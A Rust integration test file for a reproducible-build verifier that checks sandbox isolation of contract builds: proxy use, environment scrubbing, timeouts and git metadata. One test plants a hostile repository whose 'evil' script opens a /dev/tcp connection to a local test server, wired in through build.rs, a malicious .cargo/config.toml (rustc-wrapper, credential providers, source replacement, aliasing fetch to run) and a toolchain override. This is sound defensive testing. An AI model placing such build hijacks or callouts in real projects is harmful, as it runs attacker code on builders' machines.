//! What a build can reach and what reaches it: nothing of the helper's environment, nothing but the fetch gets a proxy, and
//! the fetch runs nothing of the repository.

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use provenear_tests::git_server::GitServer;
use provenear_tests::http::{Reply, Request, Response, Server};

use crate::bench::{Bench, Ended, File, Kind};
use crate::dependencies::{LOCK, MANIFEST, SOURCE};

const DEP: &str = "[package]\nname = \"dep\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
const COPY: &str = "mkdir out; cp pre.wasm out/a.wasm\n";
const WASM: File<'_> = File::Bytes(b"\0asm\x01\0\0\0");
/// As in a password that must not get anywhere.
const SECRET: &str = "hunter2";

/// A server that containers reach, and what it was asked.
fn ear() -> (Server, Arc<Mutex<Vec<Request>>>) {
    let heard = Arc::<Mutex<Vec<Request>>>::default();
    let hears = heard.clone();
    let server = Server::start_for_containers(move |request| {
        hears.lock().unwrap().push(request);
        Reply::from(Response::new(403, "text/plain", "no"))
    });
    (server.unwrap(), heard)
}

/// A rebuild by a helper whose own environment, and whose Docker, is full of proxies.
fn proxied(bench: &Bench, proxy: &str, claim: &serde_json::Value, more: &[&str]) -> Ended {
    let config = bench.path("docker-config");
    std::fs::create_dir_all(&config).unwrap();
    let proxies =
        serde_json::json!({"proxies": {"default": {"httpProxy": proxy, "httpsProxy": proxy, "noProxy": "x"}}});
    std::fs::write(config.join("config.json"), proxies.to_string()).unwrap();
    let mut command = bench.command(claim, more);
    for name in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"] {
        command.env(name, proxy);
    }
    command.env("NO_PROXY", "canary.example").env("DOCKER_CONFIG", config).env("GIT_SSL_CAINFO", "/nonexistent");
    Ended::by(command)
}

fn proxies_reach_the_fetch_alone(kind: Kind) {
    let bench = Bench::new(kind);
    let (server, heard) = ear();
    let proxy = server.url().replace("http://", &format!("http://me:{SECRET}@"));
    // Source and image are on this machine, and are had without the proxy; the helper's own fetch goes through it.
    let files =
        [("Cargo.toml", File::Text(MANIFEST)), ("Cargo.lock", File::Text(LOCK)), ("src/lib.rs", File::Text(SOURCE))];
    let needy = bench.claim("needy", &bench.repository("needy", &files), &["true"]);
    let refused = proxied(&bench, &proxy, &needy, &[]);
    assert_eq!((refused.code(), refused.exit), ("network-needed", 5), "{} {}", refused.json, refused.stderr);
    let asked: Vec<String> = heard.lock().unwrap().iter().map(|request| request.method.clone()).collect();
    assert!(asked.iter().any(|method| method == "CONNECT"), "the fetch went around the proxy: {asked:?}");
    let told = heard.lock().unwrap().iter().any(|request| request.header("proxy-authorization").is_some());
    assert!(told, "the proxy was not told the password");
    assert!(!refused.json.to_string().contains(SECRET) && !refused.stderr.contains(SECRET), "{}", refused.stderr);

    let files =
        [("pre.wasm", WASM), ("build.sh", File::Text("env | cut -d= -f1 | sort\nmkdir out; cp pre.wasm out/a.wasm\n"))];
    let claim = bench.claim("env", &bench.repository("env", &files), &["bash", "build.sh"]);
    for access in ["fetch", "full"] {
        let ended = proxied(&bench, &proxy, &claim, &["--network-access", access]);
        assert_eq!(ended.exit, 0, "{access}: {} {}", ended.json["error"], ended.stderr);
        let mut expected = vec![
            "CARGO_HOME",
            "HOME",
            "NEP330_BUILD_INFO_BUILD_ENVIRONMENT",
            "NEP330_BUILD_INFO_CONTRACT_PATH",
            "NEP330_BUILD_INFO_OUTPUT_WASM_PATH",
            "NEP330_BUILD_INFO_SOURCE_CODE_SNAPSHOT",
            "PATH",
            "PWD",
            "RUSTUP_HOME",
            "SHLVL",
            "_",
        ];
        // What one engine or the other says of the container itself.
        let engines = ["HOSTNAME", "TERM", "container"];
        expected.extend((access == "fetch").then_some("CARGO_NET_OFFLINE"));
        let log = ended.log();
        let got: Vec<&str> =
            log.lines().filter(|name| !engines.contains(name) && *name != "RUSTUP_TOOLCHAIN").collect();
        expected.sort_unstable();
        let mut sorted = got.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, expected, "{access}");
        assert!(!ended.statement().to_string().contains(SECRET), "{access}");
        bench.nothing_left(&ended, access);
    }
}

/// A server that takes a question and never answers it: whoever waits can be stopped, and waits no longer than is said.
fn a_download_that_hangs_keeps_nobody(kind: Kind) {
    let bench = Bench::new(kind);
    let server = Server::start_for_containers(|_| Reply::Hang).unwrap();
    let files =
        [("Cargo.toml", File::Text(MANIFEST)), ("Cargo.lock", File::Text(LOCK)), ("src/lib.rs", File::Text(SOURCE))];
    let claim = bench.claim("waits", &bench.repository("waits", &files), &["true"]);
    let late = proxied(&bench, &server.url(), &claim, &["--timeout", "3s"]);
    assert_eq!(late.code(), "build-timeout", "{}", late.json["error"]);
    bench.nothing_left(&late, "late");

    let mut command = bench.command(&claim, &[]);
    for name in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY"] {
        command.env(name, server.url());
    }
    let mut waiting = command.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    let mut said = BufReader::new(waiting.stderr.take().unwrap()).lines();
    assert!(said.any(|line| line.unwrap().contains("fetching the dependencies")));
    // Until the container stands that is made meanwhile: an engine is not stopped in the middle of that.
    std::thread::sleep(Duration::from_secs(5));
    let since = Instant::now();
    assert!(Command::new("kill").args(["-INT", &waiting.id().to_string()]).status().unwrap().success());
    assert_eq!(waiting.wait().unwrap().code(), Some(130));
    assert!(since.elapsed() < Duration::from_secs(10), "{:?}", since.elapsed());
}

fn the_fetch_runs_nothing_of_the_repository(kind: Kind) {
    let bench = Bench::new(kind);
    let (server, heard) = ear();
    // Only what is not on crates.io needs a program with network, cargo.
    let commit =
        bench.repository("dep", &[("Cargo.toml", File::Text(DEP)), ("src/lib.rs", File::Text("#![no_std]\n"))]);
    let git = GitServer::start_for_containers(bench.path("git")).unwrap();
    let dep = format!("{}/dep.git", git.url());
    let needs = format!("[dependencies]\ndep = {{ git = \"{dep}\", rev = \"{commit}\" }}\n");
    let manifest = MANIFEST.replace("[dependencies]\n", &needs);
    let lock = format!(
        "{}\n[[package]]\nname = \"dep\"\nversion = \"1.0.0\"\nsource = \"git+{dep}?rev={commit}#{commit}\"\n",
        LOCK.replace("\"cfg-if\",\n]", "\"cfg-if\",\n \"dep\",\n]")
    );
    let host = server.url().replace("http://", "").replace(':', "/");
    let evil =
        format!("#!/bin/bash\nexec 3<>/dev/tcp/{host}; echo -e 'GET /evil HTTP/1.0\\r\\n\\r' >&3; cat <&3\nexit 1\n");
    let config = "paths = [\"/home/near/code/x\"]\n[build]\nrustc = \"/home/near/code/evil\"\nrustc-wrapper = \"/home/near/code/evil\"\n\
        [registry]\nglobal-credential-providers = [\"/home/near/code/evil\"]\n[registries.crates-io]\ncredential-provider = [\"/home/near/code/evil\"]\n\
        [source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\ndirectory = \"/home/near/code/x\"\n[alias]\nfetch = [\"run\"]\n";
    let files = [
        ("evil", File::Program(&evil)),
        ("build.rs", File::Text("fn main() { std::process::Command::new(\"./evil\").status().unwrap(); }\n")),
        (".cargo/config.toml", File::Text(config)),
        ("rust-toolchain.toml", File::Text("[toolchain]\npath = \"/home/near/code/toolchain\"\n")),
        ("toolchain/bin/cargo", File::Program(&evil)),
        ("toolchain/bin/rustc", File::Program(&evil)),
        ("Cargo.toml", File::Text(&manifest)),
        ("Cargo.lock", File::Text(&lock)),
        ("src/lib.rs", File::Text(SOURCE)),
        ("pre.wasm", WASM),
        ("build.sh", File::Text("./evil\ncargo --version\nmkdir out; cp pre.wasm out/a.wasm\n")),
    ];
    let claim = bench.claim("evil", &bench.repository("evil", &files), &["bash", "build.sh"]);
    let fetched = bench.rebuild(&claim, &["--trust-image-network"]);
    assert_eq!(fetched.exit, 0, "{} {}", fetched.json["error"], fetched.stderr);
    assert!(fetched.stderr.contains("Updating git repository"), "cargo fetched nothing: {}", fetched.stderr);
    assert_eq!(heard.lock().unwrap().len(), 0, "something of the repository ran with network");
    for notice in ["rustc-wrapper", "toolchain-path", "prebuilt-wasm-in-tree"] {
        assert!(fetched.notices().iter().any(|n| n == notice), "{notice}: {:?}", fetched.notices());
    }
    // The same tree with network: the ear is not deaf.
    let full = bench.rebuild(&claim, &["--network-access", "full"]);
    assert_eq!(full.exit, 0, "{} {}", full.json["error"], full.stderr);
    assert!(heard.lock().unwrap().iter().any(|request| request.path == "/evil"));
    bench.nothing_left(&full, "full");
}

/// What cargo's git dependencies have, the source has too: the commit, and nothing that the claim does not decide.
fn a_build_that_asks_git_is_told_the_commit(kind: Kind) {
    let bench = Bench::new(kind);
    let script = "cat .git/HEAD; ls .git; test ! -e .git/hooks; test ! -e .git/logs; git remote get-url origin\n";
    let files = [
        ("Cargo.toml", File::Text("[package]\nname = \"a\"\nversion = \"1.0.0\"\n")),
        ("build.rs", File::Text("fn main() { std::fs::read(\"../.git/HEAD\"); }\n")),
        ("build.sh", File::Text(&format!("set -e\n{script}{COPY}"))),
        ("pre.wasm", WASM),
        ("link", File::Link("pre.wasm")),
    ];
    let commit = bench.repository("asks", &files);
    let ended = bench.rebuild(&bench.claim("asks", &commit, &["bash", "build.sh"]), &[]);
    assert_eq!(ended.exit, 0, "{} {}", ended.json["error"], ended.stderr);
    let url = format!("{}/asks.git", bench.git.url());
    assert_eq!(ended.log(), format!("{commit}\nHEAD\nconfig\nindex\nobjects\nrefs\n{url}\n"));
    let expected =
        ["custom-build-command", "prebuilt-wasm-in-tree", "build-reads-git", "symlinks-in-tree", "local-source"];
    assert_eq!(ended.notices(), expected);
}

docker_and_podman!(
    proxies_reach_the_fetch_alone,
    a_download_that_hangs_keeps_nobody,
    the_fetch_runs_nothing_of_the_repository,
    a_build_that_asks_git_is_told_the_commit
);
